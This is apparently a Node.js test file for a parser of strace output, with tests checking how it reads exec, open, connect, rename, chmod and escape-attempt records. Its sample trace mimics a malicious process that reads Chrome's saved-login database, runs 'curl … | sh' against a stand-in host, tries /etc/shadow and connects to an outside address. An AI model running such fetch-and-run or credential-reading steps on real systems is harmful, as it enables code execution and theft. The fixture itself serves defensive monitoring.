import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseStrace } from './strace-parse.js';

const SAMPLE = `11674 execve("/usr/bin/node", ["node", "t.js"], 0x7ffebb8b5438 /* 35 vars */) = 0
11674 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, child_tid=0x7f9} => {parent_tid=[11675]}, 88) = 11675
11674 openat(AT_FDCWD, "/home/alex/.config/google-chrome/Default/Login Data", O_RDONLY|O_CLOEXEC) = 18
11674 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f9465ccbf50) = 9 /* 11681 in strace's PID NS */
11681 execve("/bin/sh", ["/bin/sh", "-c", "curl -s \\"http://x/a\\" | sh"], 0x2917f800 /* 35 vars */) = 0
11681 vfork( <unfinished ...>
11682 execve("/usr/bin/sh", ["sh", "-c", "echo hi > /tmp/x"], 0x557524617b08 /* 35 vars */ <unfinished ...>
11681 <... vfork resumed>)              = 11682
11682 <... execve resumed>)             = 0
11682  openat(AT_FDCWD, "/tmp/x", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3
11682 openat(AT_FDCWD, "/etc/shadow", O_RDONLY) = -1 ENOENT (No such file or directory)
11674 connect(19, {sa_family=AF_INET, sin_port=htons(1244), sin_addr=inet_addr("203.0.113.7")}, 16) = -1 EINPROGRESS (Operation now in progress)
11674 renameat2(AT_FDCWD, "/tmp/a", AT_FDCWD, "/home/alex/.npl", RENAME_NOREPLACE) = 0
11674 fchmodat(AT_FDCWD, "/home/alex/.npl", 0755) = 0
11674 unshare(CLONE_NEWUSER) = -1 EPERM (Operation not permitted)
11682 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED} ---
`;

describe('strace parser', () => {
  const recs = parseStrace(SAMPLE);
  it('reads execs with argv, joining unfinished/resumed lines', () => {
    const execs = recs.filter((r) => r.kind === 'exec');
    assert.deepEqual(execs.map((e) => e.kind === 'exec' && e.argv), [['node', 't.js'], ['/bin/sh', '-c', 'curl -s "http://x/a" | sh'], ['sh', '-c', 'echo hi > /tmp/x']]);
  });
  it('reads opens with write/create flags and errors', () => {
    const opens = recs.filter((r) => r.kind === 'open');
    assert.equal(opens.length, 3);
    assert.deepEqual(opens[1], { kind: 'open', pid: 11682, path: '/tmp/x', write: true, create: true, ok: true, errno: undefined });
    assert.deepEqual(opens[2], { kind: 'open', pid: 11682, path: '/etc/shadow', write: false, create: false, ok: false, errno: 'ENOENT' });
  });
  it('reads connects (EINPROGRESS is an attempt that went out), process spawns but not threads', () => {
    assert.deepEqual(recs.find((r) => r.kind === 'connect'), { kind: 'connect', pid: 11674, family: 'inet', address: '203.0.113.7', port: 1244, ok: true, errno: 'EINPROGRESS' });
    assert.deepEqual(recs.filter((r) => r.kind === 'spawn').map((r) => r.kind === 'spawn' && r.child), [11681, 11682]);
  });
  it('reads renames, chmods and escape attempts', () => {
    assert.ok(recs.some((r) => r.kind === 'rename' && r.to === '/home/alex/.npl'));
    assert.ok(recs.some((r) => r.kind === 'chmod' && r.mode === '0755'));
    assert.ok(recs.some((r) => r.kind === 'escape' && r.call === 'unshare' && !r.ok));
  });
});
